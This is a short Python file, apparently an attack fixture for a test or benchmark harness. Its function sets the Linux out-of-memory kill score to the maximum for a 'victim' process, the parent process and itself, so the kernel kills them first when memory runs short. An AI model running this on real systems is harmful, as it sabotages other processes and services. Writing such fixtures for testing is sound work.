# /// attack
# title = "Puts others first in line when memory runs out"
# moments = ["call"]
# ///
import os
import signal


def attack():
    done = []
    for pid in (WORLD["victim"], os.getppid(), "self"):
        try:
            with open(f"/proc/{pid}/oom_score_adj", "w") as file:
                file.write("1000")
            done.append(pid)
        except OSError:
            pass
    return done or None
